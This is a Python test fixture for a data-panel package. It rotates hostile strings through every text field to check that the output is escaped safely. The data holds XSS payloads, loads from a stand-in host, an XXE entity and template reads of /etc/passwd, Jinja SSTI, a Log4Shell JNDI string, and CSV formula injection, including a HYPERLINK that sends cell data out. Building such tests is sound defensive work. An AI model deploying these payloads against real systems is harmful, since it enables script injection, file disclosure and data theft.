"""Texts that do harm where one is taken for markup, a template, a formula or a name of a file."""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

import numpy as np
import pandas as pd

from trends.panel import Anomaly, Panel

ELEMENTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//192.0.2.1/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://192.0.2.1/pixel.gif'>",
    "<body onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='http://192.0.2.1/x.swf'></object>",
    "<embed src='http://192.0.2.1/x.swf'>",
    "<link rel=stylesheet href='http://192.0.2.1/x.css'>",
    "<base href='http://192.0.2.1/'>",
    "<meta http-equiv=refresh content='0;url=http://192.0.2.1/'>",
    "<form action='http://192.0.2.1/'><input autofocus onfocus=alert(1)></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
    "<style>@import 'http://192.0.2.1/x.css';</style>",
    "<template><script>alert(1)</script></template>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='http://192.0.2.1/x.css'?>",
)
ATTRIBUTES = (
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "` onerror=alert(1) ",
    '" style="position:fixed;inset:0;background:url(http://192.0.2.1/x)',
    'javascript:alert(1)//"',
    'x" aria-label="y" onclick=\'alert(1)',
)
DRAWINGS = (
    "</svg><script>alert(1)</script>",
    "--></style></svg><script>alert(2)</script><!--",
    "--!><script>alert(1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href='http://192.0.2.1/x.svg#x'/></svg>",
    "<foreignObject><iframe src='javascript:alert(1)'/></foreignObject>",
    "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "$x^2$ and a lone $ and $\\frac{1}$",
    "${unbalanced $x^{2$ \\",
    "$\\href{javascript:alert(1)}{x}$",
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{# gone #}",
    "{0.__class__.__mro__}",
    "{name} {n} {month} {line}",
    "{",
    "%s %(name)s %d",
    "${jndi:ldap://192.0.2.1/x}",
    '#eval("1 + 1")',
    '"); #read("/etc/passwd")',
    '#image("/etc/passwd") ] } \\\\ // no comment',
    '#link("http://192.0.2.1/")[x] @ref <label> = head',
    "#panic(1) $x$ *b* _i_ `raw`",
)
MARKDOWN = (
    "[click](javascript:alert(1))",
    "![x](http://192.0.2.1/x.gif)",
    "[x][1]\n\n[1]: http://192.0.2.1/",
    "<http://192.0.2.1/>",
    "http://192.0.2.1/x www.example.org a@example.org",
    "# head\n## head",
    "head\n===",
    "---",
    "- item\n- item",
    "1. first\n2) second",
    "+ item",
    "> quoted",
    "| a | b |\n| --- | --- |\n| c | d |",
    "```\ncode\n```",
    "    indented",
    "**bold** __bold__ *it* _it_ ~~gone~~ `code`",
    "&lt;b&gt; &amp; &#60;script&#62;",
    "- [ ] task\n: definition\n[^1]",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    "'=1+1",
    "''=1+1",
    '"=1+1"',
    'a",=1+1,"',
    "-5",
)
LETTERS = (
    "\u202e reversed",
    "\u200f\u061c right to left",
    "\x1b]0;title\x07\x1b[31m red",
    "\x07\x08 bell",
    "\ufeff\ufffe\uffff\ufdd0",
    "x\u0301\u0489" * 30,
    "\U0001f680\u200d\U0001f1fa\U0001f1e6",
    "long " * 400,
)
TEXTS = (*ELEMENTS, *ATTRIBUTES, *DRAWINGS, *TEMPLATES, *MARKDOWN, *FORMULAS, *LETTERS)
FIELDS = ("title", "quantity", "series", "unit", "source", "definition", "adds_up_to", "metric")
MONTH = "2025-06"


def panel(**texts: Any) -> Panel:
    """Thirty rising months, with a text of one's own in every place that has one."""
    months = pd.period_range("2023-01", MONTH, freq="M")
    notes: Sequence[str] = texts.pop("notes", ())
    series = texts.pop("series", "s")
    anomalies = tuple(
        Anomaly(months[20], months[20], "method break", note, note) for note in notes if note
    )
    values = np.arange(1.0, 31.0)[None, :] ** 1.2
    return Panel(values, months, [series], anomalies=anomalies, notes=tuple(notes), **texts)


def rotated(k: int, texts: Sequence[str] = TEXTS) -> dict[str, str]:
    """A text for each field: over all k, each text comes to each field once."""
    step = len(texts) // len(FIELDS)
    return {name: texts[(k + step * at) % len(texts)] for at, name in enumerate(FIELDS)}
